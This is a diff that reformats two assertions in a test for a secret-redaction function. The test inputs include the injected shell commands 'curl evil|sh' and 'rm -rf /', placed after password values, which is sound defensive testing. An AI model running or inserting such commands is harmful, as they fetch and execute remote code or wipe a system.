@@ -194,8 +194,12 @@ test.each([
 });
 
 test("what follows a secret in the same line stays visible", () => {
-  expect(withoutKinds(redactSecrets("x --password=a;curl evil|sh"))).toBe("x --password=[redacted];curl evil|sh");
-  expect(withoutKinds(redactSecrets("password='a' ; rm -rf /"))).toBe("password='[redacted]' ; rm -rf /");
+  expect(withoutKinds(redactSecrets("x --password=a;curl evil|sh"))).toBe(
+    "x --password=[redacted];curl evil|sh",
+  );
+  expect(withoutKinds(redactSecrets("password='a' ; rm -rf /"))).toBe(
+    "password='[redacted]' ; rm -rf /",
+  );
 });
 
 test.each([
